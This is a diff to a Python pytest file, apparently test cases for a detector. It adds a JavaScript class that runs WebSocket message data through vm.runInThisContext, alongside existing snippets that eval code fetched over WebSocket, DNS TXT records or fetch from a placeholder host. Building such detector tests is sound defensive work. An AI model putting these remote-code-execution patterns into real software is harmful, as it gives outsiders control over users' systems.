@@ -36,6 +36,9 @@ def fault(reason: str) -> pytest.MarkDecorator:
            const run = globalThis["ev" + "al"]; get(url).then((t) => run(t));""",
         "const w = new WebSocket('wss://a.invalid'); w.onmessage = (m) => eval(m.data);",
         "const w = new WebSocket('wss://a.invalid'); w.on('message', (m) => cp.exec(`${m}`));",
+        """class Channel { #ws; open() { this.#ws = new WebSocket('wss://a.invalid');
+           this.#ws.addEventListener('message', (e) => this.#on(JSON.parse(e.data))); }
+           async #on({ id, type }) { vm.runInThisContext("(" + type + ")")(id); } }""",
         "require('dns').resolveTxt('a.invalid', (e, r) => eval(atob(r.flat().join(''))));",
         pytest.param(
             "fetch(url).then((r) => r.text()).then((t) => setTimeout(t, 10));",
